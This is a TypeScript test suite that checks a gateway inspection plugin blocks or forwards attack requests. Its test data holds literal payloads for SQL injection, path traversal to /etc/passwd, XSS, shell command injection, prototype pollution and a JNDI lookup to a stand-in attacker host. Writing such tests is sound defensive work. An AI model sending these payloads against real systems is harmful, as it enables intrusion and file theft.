/* eslint-disable no-template-curly-in-string -- attack payloads contain literal ${...} lookups */
/**
 * Request inspection end to end over TCP: a real client, the inspection plugin in front of
 * `defineRoute()` proxies, and a recording upstream that proves what got through (and what did not).
 */
import t, { type Test } from 'tap'
import Fastify, { type FastifyInstance } from 'fastify'
import { request } from 'undici'
import { defineRoute, proxyPlugin, gatewayErrorHandler, gatewayNotFoundHandler } from 'portcullis'
import { inspectPlugin } from '../../plugins/inspect/index.js'
import { startUpstream, type Upstream } from '../helpers/upstream.js'

interface Setup { url: string, up: Upstream, app: FastifyInstance }

async function setup (t: Test): Promise<Setup> {
  const up = await startUpstream(t)
  const app = Fastify({ logger: false })
  app.setErrorHandler(gatewayErrorHandler)
  app.setNotFoundHandler(gatewayNotFoundHandler)
  await app.register(inspectPlugin, { mode: 'block' })
  await app.register(proxyPlugin, { bodyLimit: 1024 * 1024, defaultRateLimit: false })
  await app.register(defineRoute({ prefix: '/api', upstream: up.url, auth: false, rateLimit: false }))
  await app.register(defineRoute({ prefix: '/forms', upstream: up.url, auth: false, rateLimit: false, inspect: { mode: 'block', body: true } }))
  await app.register(defineRoute({ prefix: '/shadow', upstream: up.url, auth: false, rateLimit: false, inspect: { mode: 'detect', body: true } }))
  await app.register(defineRoute({ prefix: '/raw', upstream: up.url, auth: false, rateLimit: false, inspect: false }))
  t.teardown(() => app.close())
  await app.listen({ port: 0, host: '127.0.0.1' })
  const addr = app.server.address()
  const port = typeof addr === 'object' && addr !== null ? addr.port : 0
  return { url: `http://127.0.0.1:${port}`, up, app }
}

t.test('default route policy blocks URL, query, header and cookie attacks before the upstream', async (t) => {
  const { url, up } = await setup(t)
  const attacks: Array<[string, Record<string, string>]> = [
    ['/api/items?id=' + encodeURIComponent('1\' UNION SELECT password FROM users--'), {}],
    ['/api/files/..%2f..%2f..%2fetc%2fpasswd', {}],
    ['/api/search?q=%253Cscript%253Ealert(1)%253C%252Fscript%253E', {}],
    ['/api/items', { 'user-agent': '${jndi:ldap://evil.example/a}' }],
    ['/api/items', { cookie: 'pref=' + encodeURIComponent(';cat /etc/passwd') }]
  ]
  for (const [path, headers] of attacks) {
    const res = await request(url + path, { headers })
    const body = await res.body.json() as Record<string, unknown>
    t.equal(res.statusCode, 403, path)
    t.equal(body.code, 'GW_INSPECT_BLOCKED')
    t.equal(body.message, 'Request blocked')
  }
  t.equal(up.requests.length, 0, 'no attack reached the upstream')
  const ok = await request(`${url}/api/search?q=${encodeURIComponent('O\'Brien drop me a line')}&plan=${encodeURIComponent('select your plan')}`)
  t.equal(ok.statusCode, 200)
  await ok.body.dump()
  t.equal(up.requests.length, 1)
  t.equal(decodeURIComponent(up.requests[0]?.url ?? ''), '/search?q=O\'Brien drop me a line&plan=select your plan')
})

t.test('body inspection: attacks and poisoned JSON refused, clean bodies forwarded byte for byte', async (t) => {
  const { url, up } = await setup(t)
  const post = async (path: string, contentType: string, body: string): Promise<number> => {
    const res = await request(url + path, { method: 'POST', headers: { 'content-type': contentType }, body })
    await res.body.dump()
    return res.statusCode
  }
  t.equal(await post('/forms/comments', 'application/json', '{"comment":"<svg/onload=alert(1)>"}'), 403)
  t.equal(await post('/forms/comments', 'application/x-www-form-urlencoded', 'name=x&q=%24%28whoami%29'), 403)
  t.equal(await post('/forms/comments', 'application/json', '{"a":{"__proto__":{"admin":true}}}'), 400)
  t.equal(await post('/forms/comments', 'application/xml', '<c><t>php://filter/resource=index.php</t></c>'), 403)
  t.equal(up.requests.length, 0, 'nothing reached the upstream')

  const clean = '{ "name": "Seán O\'Brien",\n  "note": "Select your plan -- drop me a line",  "n": 1.50 }'
  t.equal(await post('/forms/comments', 'application/json', clean), 200)
  t.equal(up.requests.length, 1)
  t.equal(up.requests[0]?.body.toString('utf8'), clean, 'the upstream received exactly the inspected bytes')
  t.equal(up.requests[0]?.headers['content-type'], 'application/json', 'and the same content type')
})

t.test('detect mode forwards what block mode would refuse; inspect: false streams untouched', async (t) => {
  const { url, up } = await setup(t)
  const attack = '{"q":"1\' OR \'1\'=\'1"}'
  const shadow = await request(`${url}/shadow/x`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: attack })
  await shadow.body.dump()
  t.equal(shadow.statusCode, 200)
  const raw = await request(`${url}/raw/x?q=${encodeURIComponent('<script>alert(1)</script>')}`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: attack })
  await raw.body.dump()
  t.equal(raw.statusCode, 200)
  t.equal(up.requests.length, 2)
  t.equal(up.requests[0]?.body.toString(), attack)
  t.equal(up.requests[1]?.body.toString(), attack)
})
